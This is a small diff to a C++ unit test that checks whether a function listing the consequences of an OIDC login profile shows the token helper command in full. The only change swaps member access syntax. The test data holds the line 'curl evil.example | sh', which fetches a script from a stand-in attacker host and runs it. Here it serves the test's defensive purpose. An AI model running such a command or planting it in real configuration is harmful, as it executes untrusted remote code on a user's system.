@@ -21,7 +21,7 @@ TEST(Consequences, begin_with_the_command_that_runs_shown_in_full) {
     auto profile = untouched();
     profile.provider = "oidc";
     profile.issuer = "https://login.example.com";
-    profile.helper.token = "curl evil.example | sh";
+    profile.helper->token = "curl evil.example | sh";
     const auto all = consequences_of(profile);
     ASSERT_EQ(all.size(), 3U);
     EXPECT_EQ(all[0].key, "token_helper");
